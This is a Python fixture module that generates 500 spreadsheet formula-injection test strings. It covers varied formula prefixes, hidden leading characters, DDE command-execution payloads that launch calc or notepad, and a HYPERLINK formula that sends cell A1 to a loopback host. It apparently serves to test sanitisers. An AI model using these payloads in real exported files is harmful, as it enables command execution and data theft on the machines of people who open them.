"""500 texts that a spreadsheet might run: formula signs of every width, commands (DDE), links, some of them hidden."""

from __future__ import annotations

BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://127.0.0.1/?"&A1,"click")',
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'WEBSERVICE("http://127.0.0.1/")',
    'IMPORTXML("http://127.0.0.1/";"//a")',
    "2+5+cmd|' /C notepad'!A0",
    "SUM(1+1)*cmd|' /C calc'!A0",
    '"x"&A1',
)
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "=-", "=+", "@=", "-+=")  # noqa: RUF001
BEFORE = ("", " ", "\t", "\r", "\n", "\u00a0", "\ufeff", "\u200b", "\x00", "\x1b", "  \t ", "x;", "x\t", 'a"\n')

PAYLOADS = [f"{before}{sign}{body}" for before in BEFORE for sign in SIGNS for body in BODIES][::3][:500]
